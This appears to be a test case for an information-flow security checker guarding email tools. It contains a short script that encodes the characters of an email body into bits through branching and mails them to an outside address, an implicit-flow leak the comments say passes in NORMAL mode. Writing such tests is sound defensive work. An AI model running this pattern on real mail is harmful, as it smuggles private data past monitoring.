// attack: in a number loop an if on the email's characters writes an array variable in place; the inlined read and write paths must see the structure label it left
// normal: leaks (implicit flow, allowed in NORMAL mode: the write ran in a branch)
const m = await getEmail('m1');
const bits = [0, 0, 0, 0];
const xs = [0, 0, 0, 0];
for (let i = 0; i < 4; i++) {
  if (m.body.charCodeAt(i) > 100) xs[i] = 1;
  bits[i] = xs[i] + 0;
}
const out = [];
for (let i = 0; i < 4; i++) out.push(bits[i]);
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: out.join('') });
